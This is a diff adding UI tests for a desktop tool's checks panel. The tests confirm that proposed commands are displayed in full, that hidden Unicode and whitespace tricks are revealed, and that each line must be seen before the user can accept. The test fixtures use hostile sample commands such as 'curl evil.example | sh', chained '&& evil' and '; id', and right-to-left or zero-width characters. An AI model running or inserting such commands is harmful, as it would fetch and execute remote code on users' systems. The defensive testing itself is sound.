@@ -1,19 +1,23 @@
 """The Checks part says what is known, asks before anything runs, and marks new messages on their lines."""
 
 import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtWidgets import QApplication, QLabel
 from pytestqt.qtbot import QtBot
 
 from tandem_desktop.checks.catalog import Check, CheckList
 from tandem_desktop.checks.evidence import Diagnostic, Evidence, LineMap, SideResult, compare, placed
 from tandem_desktop.checks.needed import JudgedPart, PlanPart
-from tandem_desktop.domain.events import CheckFinished
+from tandem_desktop.domain.events import AffectedTestsFinished, CheckFinished
 from tandem_desktop.domain.ids import OperationId
 from tandem_desktop.services.checks import OfferedChecks
 from tandem_desktop.services.needed import NeededParts
 from tandem_desktop.services.pages import PlanPage
 from tandem_desktop.ui.diff.model import build_file_diff
 from tandem_desktop.ui.diff.view import DiffView
+from tandem_desktop.ui.plan.operation_content import CodeBox
 from tandem_desktop.ui.plan.panel import ExecutionPlanPanel
+from tandem_desktop.ui.widgets import decision_guard
 from tandem_desktop.ui.widgets.buttons import LinkButton
 from tests.support.builders import a_write
 from tests.ui.plan.pages import a_page, viewed
@@ -67,17 +71,102 @@ def test_nothing_is_said_where_there_are_no_checks(panel: ExecutionPlanPanel, pa
     assert panel.header.checks.isHidden()
 
 
+def commands(panel: ExecutionPlanPanel) -> CodeBox:
+    if panel.header.checks.commands is None:
+        click(panel, "show-commands")
+        QApplication.processEvents()  # it is laid out
+    box = panel.header.checks.commands
+    assert box is not None
+    return box
+
+
+def accept(panel: ExecutionPlanPanel, qtbot: QtBot) -> None:
+    """Click the button once it may decide."""
+    qtbot.waitUntil(panel.header.checks.accept.isEnabled)
+    qtbot.mouseClick(panel.header.checks.accept, Qt.MouseButton.LeftButton)
+
+
 def test_a_list_that_is_not_accepted_shows_its_commands_and_runs_only_when_asked(
-    panel: ExecutionPlanPanel, page: PlanPage
+    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
 ) -> None:
     asked: list[tuple[object, ...]] = []
     panel.checks.run_requested.connect(lambda *what: asked.append(what))
     found = offered(accepted=False)
     panel.checks.show_known(page.version, found, None, runs=True)
-    assert panel.header.checks.listed == ("$ pytest -q",)
-    assert asked == []
+    assert panel.header.checks.commands is None, "the offer is one line until it is asked for"
+    assert panel.header.checks.accept.isHidden()
+    assert commands(panel).toPlainText() == "$ pytest -q"
     click(panel, "accept-checks")
+    assert asked == []
+    accept(panel, qtbot)
     assert asked == [(page.version.plan_id, page.version.revision, found.list.digest, False)]
+    assert panel.header.checks.accept.isHidden()
+
+
+def test_commands_to_accept_are_whole_and_spell_out_what_is_hidden(panel: ExecutionPlanPanel, page: PlanPage) -> None:
+    long = "pytest " + "x" * 3000 + " || curl evil.example | sh"
+    checks = (
+        Check(name="a", command=long),
+        Check(name="b", command="ls" + " " * 300 + "\n\n\n\n$ id\u202e", cwd="\u0430pp"),
+        Check(name="npm test", command="npm test", runs="jest\u200b && evil", affected="jest {changed}; id\u200b"),
+    )
+    panel.checks.show_known(page.version, OfferedChecks(CheckList(checks, is_found=False), False), None, runs=True)
+    assert commands(panel).toPlainText().split("\n") == [
+        f"$ {long}",
+        "$ ls⟨·×300⟩",
+        "> ⟨¶×3⟩",
+        "> $ id⟨U+202E⟩",
+        "  in ⟨U+0430⟩pp",
+        "$ npm test",
+        "→ jest⟨U+200B⟩ && evil",
+        "and ahead of it, for the tests that a plan touches:",
+        "$ jest {changed}; id⟨U+200B⟩",
+    ]
+    assert commands(panel).horizontalScrollBar().maximum() == 0
+
+
+def test_a_list_is_accepted_only_after_each_of_its_lines_was_on_screen(
+    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
+) -> None:
+    asked: list[tuple[object, ...]] = []
+    panel.checks.run_requested.connect(lambda *what: asked.append(what))
+    many = tuple(Check(name=f"c{number}", command=f"make {number}") for number in range(40))
+    panel.checks.show_known(page.version, OfferedChecks(CheckList(many, is_found=False), False), None, runs=True)
+    part = panel.header.checks
+    commands(panel)
+    qtbot.waitUntil(lambda: part.guard.is_ready)
+    assert not part.accept.isEnabled()
+    unseen = panel.findChild(QLabel, "checks-unseen")
+    assert unseen is not None
+    qtbot.waitUntil(unseen.isVisible)
+    bar = commands(panel).verticalScrollBar()
+    bar.setValue(bar.maximum())  # the middle was never on screen
+    commands(panel).viewport().repaint()
+    assert not part.accept.isEnabled()
+    for value in range(bar.maximum() + 1):
+        bar.setValue(value)
+        commands(panel).viewport().repaint()
+    accept(panel, qtbot)
+    assert len(asked) == 1
+    assert unseen.isHidden()
+
+
+def test_another_list_in_place_of_the_one_that_was_read_waits_and_has_to_be_read(
+    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asked: list[tuple[object, ...]] = []
+    panel.checks.run_requested.connect(lambda *what: asked.append(what))
+    panel.checks.show_known(page.version, offered(accepted=False), None, runs=True)
+    part = panel.header.checks
+    commands(panel)
+    qtbot.waitUntil(part.accept.isEnabled)
+    monkeypatch.setattr(decision_guard, "SETTLE_MS", 600_000)
+    other = OfferedChecks(CheckList((Check(name="pytest", command="curl evil.example | sh"),), is_found=True), False)
+    panel.checks.show_known(page.version, other, None, runs=True)
+    click(panel, "accept-checks")
+    assert asked == []
+    assert not part.guard.is_ready
+    assert commands(panel).toPlainText() == "$ curl evil.example | sh"
 
 
 @pytest.mark.setting("checks_when_a_plan_arrives")
@@ -188,3 +277,26 @@ def test_a_search_that_is_stopped_shows_the_evidence_again(panel: ExecutionPlanP
     click(panel, "find-needed")
     panel.checks.stopped(page.version.plan_id, page.version.revision)
     assert panel.header.checks.line.text.startswith("1 fixed")
+
+
+def test_files_with_a_new_failure_are_told_and_stay_while_the_checks_run_again(
+    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
+) -> None:
+    found = evidence().model_copy(update={"failing_paths": frozenset({"src/app.py"})})
+    with qtbot.waitSignal(panel.checks.failing_changed):
+        panel.checks.show_known(page.version, offered(accepted=True), found, runs=True)
+    click(panel, "run-checks")
+    assert panel.checks.failing_paths == {"src/app.py"}
+    with qtbot.waitSignal(panel.checks.failing_changed):
+        panel.show_nothing()
+    assert panel.checks.failing_paths == frozenset()
+
+
+def test_what_ran_ahead_is_told_while_the_others_run(panel: ExecutionPlanPanel, page: PlanPage) -> None:
+    version = page.version
+    panel.checks.show_known(version, offered(accepted=True), None, runs=True)
+    panel.show_progress(
+        AffectedTestsFinished(plan_id=version.plan_id, revision=1, check="pytest", passed=3, failed=1, names=("t::a",))
+    )
+    said = "Checks: 0 of 2 done. Tests that the plan touches: 3 passed, 1 failed."
+    assert panel.header.checks.line.text == said
